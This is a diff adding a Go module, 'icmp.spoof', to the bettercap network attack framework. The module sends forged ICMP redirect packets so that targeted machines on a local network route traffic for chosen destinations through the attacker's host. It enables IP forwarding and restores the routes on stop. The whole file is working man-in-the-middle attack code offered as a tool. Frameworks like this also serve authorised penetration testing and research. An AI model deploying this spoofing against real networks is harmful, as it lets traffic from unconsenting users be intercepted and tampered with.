@@ -0,0 +1,256 @@
+package icmp_spoof
+
+import (
+	"fmt"
+	"net"
+	"sync"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+
+	"github.com/evilsocket/islazy/str"
+	"github.com/evilsocket/islazy/tui"
+)
+
+type ICMPSpoofer struct {
+	session.SessionModule
+	addresses    []net.IP
+	macs         []net.HardwareAddr
+	names        []string
+	destinations []net.IP
+	gateway      net.IP
+	newGateway   net.IP
+	interval     time.Duration
+	skipRestore  bool
+	waitGroup    *sync.WaitGroup
+}
+
+func NewICMPSpoofer(s *session.Session) *ICMPSpoofer {
+	mod := &ICMPSpoofer{
+		SessionModule: session.NewSessionModule("icmp.spoof", s),
+		addresses:     make([]net.IP, 0),
+		macs:          make([]net.HardwareAddr, 0),
+		names:         make([]string, 0),
+		destinations:  make([]net.IP, 0),
+		waitGroup:     &sync.WaitGroup{},
+	}
+
+	mod.SessionModule.Requires("net.recon")
+
+	mod.AddParam(session.NewStringParameter("icmp.spoof.targets", "", "",
+		"Comma separated list of IP addresses, MAC addresses, aliases or host names to send redirects to, also supports nmap style IP ranges."))
+
+	mod.AddParam(session.NewStringParameter("icmp.spoof.destinations", "", "",
+		"Comma separated list of IP addresses or domain names whose traffic will be routed through this host."))
+
+	mod.AddParam(session.NewStringParameter("icmp.spoof.gateway", "", "",
+		"Address of the gateway the redirects are sent on behalf of, if empty the default gateway will be used."))
+
+	mod.AddParam(session.NewStringParameter("icmp.spoof.address",
+		session.ParamIfaceAddress,
+		session.IPv4Validator,
+		"Address of the new gateway for the destinations, it must be on the same subnet of the targets."))
+
+	mod.AddParam(session.NewIntParameter("icmp.spoof.interval",
+		"5",
+		"Seconds between redirects, targets drop redirected routes after a while."))
+
+	mod.AddParam(session.NewBoolParameter("icmp.spoof.skip_restore",
+		"false",
+		"If set to true, the routes of the targets will not be restored when the module is stopped."))
+
+	mod.AddHandler(session.NewModuleHandler("icmp.spoof on", "",
+		"Start sending ICMP redirects to the targets.",
+		func(args []string) error {
+			return mod.Start()
+		}))
+
+	mod.AddHandler(session.NewModuleHandler("icmp.spoof off", "",
+		"Stop sending ICMP redirects and restore the routes of the targets.",
+		func(args []string) error {
+			return mod.Stop()
+		}))
+
+	return mod
+}
+
+func (mod ICMPSpoofer) Name() string {
+	return "icmp.spoof"
+}
+
+func (mod ICMPSpoofer) Description() string {
+	return "Sends ICMP redirects to the targets so that they route the traffic for the selected destinations through this host."
+}
+
+func (mod ICMPSpoofer) Author() string {
+	return "Simone Margaritelli <evilsocket@gmail.com>"
+}
+
+func (mod *ICMPSpoofer) parseDestinations(destinations string) error {
+	mod.destinations = make([]net.IP, 0)
+	for _, dest := range str.Comma(destinations) {
+		if ip := net.ParseIP(dest); ip != nil {
+			if ip.To4() == nil {
+				return fmt.Errorf("%s is not an IPv4 address", dest)
+			}
+			mod.destinations = append(mod.destinations, ip.To4())
+			continue
+		}
+
+		ips, err := net.LookupIP(dest)
+		if err != nil {
+			return fmt.Errorf("could not resolve %s: %v", dest, err)
+		}
+
+		found := false
+		for _, ip := range ips {
+			if ip.To4() != nil {
+				mod.Debug("%s -> %s", dest, ip)
+				mod.destinations = append(mod.destinations, ip.To4())
+				found = true
+			}
+		}
+
+		if !found {
+			return fmt.Errorf("%s has no IPv4 address", dest)
+		}
+	}
+
+	if len(mod.destinations) == 0 {
+		return fmt.Errorf("icmp.spoof.destinations can't be empty")
+	}
+	return nil
+}
+
+func (mod *ICMPSpoofer) Configure() error {
+	var err error
+	var targets string
+	var destinations string
+	var gateway string
+	var interval int
+
+	if mod.Running() {
+		return session.ErrAlreadyStarted(mod.Name())
+	} else if err, targets = mod.StringParam("icmp.spoof.targets"); err != nil {
+		return err
+	} else if err, destinations = mod.StringParam("icmp.spoof.destinations"); err != nil {
+		return err
+	} else if err, gateway = mod.StringParam("icmp.spoof.gateway"); err != nil {
+		return err
+	} else if err, mod.newGateway = mod.IPParam("icmp.spoof.address"); err != nil {
+		return err
+	} else if err, interval = mod.IntParam("icmp.spoof.interval"); err != nil {
+		return err
+	} else if err, mod.skipRestore = mod.BoolParam("icmp.spoof.skip_restore"); err != nil {
+		return err
+	} else if err = mod.parseDestinations(destinations); err != nil {
+		return err
+	} else if interval <= 0 {
+		return fmt.Errorf("icmp.spoof.interval must be greater than 0")
+	}
+
+	mod.interval = time.Duration(interval) * time.Second
+
+	if gateway == "" {
+		mod.gateway = mod.Session.Gateway.IP
+	} else if mod.gateway = net.ParseIP(gateway); mod.gateway == nil || mod.gateway.To4() == nil {
+		return fmt.Errorf("%s is not a valid IPv4 address", gateway)
+	}
+
+	targets, mod.names = network.SplitTargetNames(targets, mod.Session.Lan.Aliases())
+	if mod.addresses, mod.macs, err = network.ParseTargets(targets, mod.Session.Lan.Aliases()); err != nil {
+		return err
+	} else if len(mod.addresses) == 0 && len(mod.macs) == 0 && len(mod.names) == 0 {
+		return fmt.Errorf("icmp.spoof.targets can't be empty")
+	}
+
+	if !mod.Session.Firewall.IsForwardingEnabled() {
+		mod.Info("enabling forwarding")
+		mod.Session.Firewall.EnableForwarding(true)
+	}
+
+	return nil
+}
+
+func (mod *ICMPSpoofer) getTargets(probe bool) map[string]net.HardwareAddr {
+	targets := make(map[string]net.HardwareAddr)
+
+	for _, ip := range mod.addresses {
+		if mod.Session.Skip(ip) || ip.Equal(mod.gateway) {
+			continue
+		} else if hw, err := mod.Session.FindMAC(ip, probe); err == nil {
+			targets[ip.String()] = hw
+		}
+	}
+
+	for _, hw := range mod.macs {
+		if ip, err := network.ArpInverseLookup(mod.Session.Interface.Name(), hw.String(), false); err == nil {
+			if !mod.Session.Skip(net.ParseIP(ip)) {
+				targets[ip] = hw
+			}
+		}
+	}
+
+	for _, name := range mod.names {
+		for _, e := range mod.Session.Lan.FindByName(name) {
+			if e.IP.To4() != nil && !mod.Session.Skip(e.IP) {
+				targets[e.IpAddress] = e.HW
+			}
+		}
+	}
+
+	return targets
+}
+
+// redirect tells every target to route the destinations through newGateway,
+// on behalf of gateway.
+func (mod *ICMPSpoofer) redirect(gateway net.IP, newGateway net.IP, probe bool) {
+	for ip, hw := range mod.getTargets(probe) {
+		target := net.ParseIP(ip)
+		for _, dest := range mod.destinations {
+			if err, pkt := packets.NewICMPRedirect(mod.Session.Interface.HW, gateway, target, hw, dest, newGateway); err != nil {
+				mod.Error("error creating redirect for %s: %v", ip, err)
+			} else if err = mod.Session.Queue.Send(pkt); err != nil {
+				mod.Error("error sending redirect to %s: %v", ip, err)
+			} else {
+				mod.Debug("sent redirect to %s: %s via %s", ip, dest, newGateway)
+			}
+		}
+	}
+}
+
+func (mod *ICMPSpoofer) Start() error {
+	if err := mod.Configure(); err != nil {
+		return err
+	}
+
+	return mod.SetRunning(true, func() {
+		mod.Info("redirecting %d destinations of the targets to %s", len(mod.destinations), tui.Bold(mod.newGateway.String()))
+
+		mod.waitGroup.Add(1)
+		defer mod.waitGroup.Done()
+
+		for probe := true; mod.Running(); probe = false {
+			mod.redirect(mod.gateway, mod.newGateway, probe)
+			time.Sleep(mod.interval)
+		}
+	})
+}
+
+func (mod *ICMPSpoofer) Stop() error {
+	return mod.SetRunning(false, func() {
+		mod.Info("waiting for redirects to stop ...")
+		mod.waitGroup.Wait()
+
+		if !mod.skipRestore {
+			// we are the current gateway of the destinations now
+			mod.Info("restoring the routes of the targets ...")
+			for i := 0; i < 3; i++ {
+				mod.redirect(mod.newGateway, mod.gateway, false)
+				time.Sleep(1 * time.Second)
+			}
+		}
+	})
+}